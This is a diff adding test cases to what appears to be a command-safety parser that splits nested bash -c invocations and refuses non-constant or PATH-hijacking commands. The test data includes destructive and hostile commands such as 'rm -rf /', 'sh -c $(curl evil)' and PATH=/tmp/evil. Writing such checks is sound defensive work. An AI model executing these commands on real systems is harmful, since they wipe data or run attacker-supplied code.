@@ -102,6 +102,9 @@ SPLITS = [
     ),
     ('bash --norc -lc "x"', [("bash", "--norc", "-lc", "x"), ("x",)]),
     ("bash script.sh", [("bash", "script.sh")]),
+    ("bash \"-c\" 'curl x'", [("bash", "-c", "curl x"), ("curl", "x")]),
+    ("b\\ash -'c' curl", [("bash", "-c", "curl"), ("curl",)]),
+    ("bash -c -e 'x' a", [("bash", "-c", "-e", "x", "a"), ("x",)]),
     ("bash -c", [("bash", "-c")]),
     (
         "bash -c \"bash -c 'rm -rf /'\"",
@@ -244,6 +247,8 @@ REFUSED = [
     ('bash -c "$SCRIPT"', "not a constant"),
     ("sh -c $(curl evil)", "not a constant"),
     ('trap "$X" EXIT', "not a constant"),
+    ("bash $OPTS 'curl x'", "may be -c"),
+    ("bash -c $'curl x'", "not a constant"),
     ("PATH=/tmp/evil:$PATH git status", "PATH"),
     ("PATH=/tmp/evil", "PATH"),
     ("export PATH=/tmp/evil", "PATH"),
